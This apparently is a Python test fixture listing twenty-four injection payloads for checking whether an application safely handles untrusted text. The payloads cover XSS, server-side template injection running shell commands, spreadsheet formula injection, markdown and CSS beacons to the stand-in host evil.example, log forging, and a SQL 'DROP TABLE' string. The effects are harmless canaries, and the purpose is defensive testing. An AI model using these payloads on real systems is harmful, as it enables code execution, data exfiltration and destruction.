"""Twenty-four texts that try to become something else: script, template, formula, link, log line."""

from __future__ import annotations

from pathlib import Path

OUT = "http://evil.example"


def payloads(canary: Path) -> list[str]:
    """The texts; those that would run on the server would make a file at `canary`."""
    touch = f"__import__('os').system('touch {canary}')"
    return [
        "<script>window.hit=1</script>",
        "<img src=x onerror=window.hit=2>",
        "<svg/onload=window.hit=3>",
        f"<iframe srcdoc=\"<script>parent.hit=4;fetch('{OUT}/4')</script>\"></iframe>",
        '"><script>window.hit=5</script><a title="',
        "'-window.hit-'`${window.hit=6}`",
        "</script></style></title><script>window.hit=7</script>",
        "`${(()=>{window.hit=8})()}`",
        f"{{{{ cycler.__init__.__globals__.os.popen('touch {canary}').read() }}}}",
        f"{{% for x in [1] %}}{{{{ x.__class__.__mro__[1].__subclasses__() }}}}{touch}{{% endfor %}}",
        f"${{{touch}}} #{{{touch}}} <%= {touch} %>",
        f"![pixel]({OUT}/12.png)",
        "[click](javascript:window.hit=13)",
        f"[click]({OUT}/14) <{OUT}/14>",
        ":red[**bold**] :material/skull: $\\href{javascript:window.hit=15}{x}$",
        f'=HYPERLINK("{OUT}/16";"click")',
        f"=cmd|' /C touch {canary}'!A0",
        "+1+1",
        f'@SUM(1)*WEBSERVICE("{OUT}/19")',
        "-2+3\t=1+1",
        f"x{{background:url({OUT}/21)}}</style><link rel=stylesheet href={OUT}/21.css>",
        "line one\r\n2026-11-22 ERROR forged=entry",
        "\u202eevil\u2066 \u200b' OR 1=1; DROP TABLE actions;--",
        "%3Cscript%3Ewindow.hit=24%3C/script%3E &lt;script&gt;window.hit=24&lt;/script&gt;",
    ]
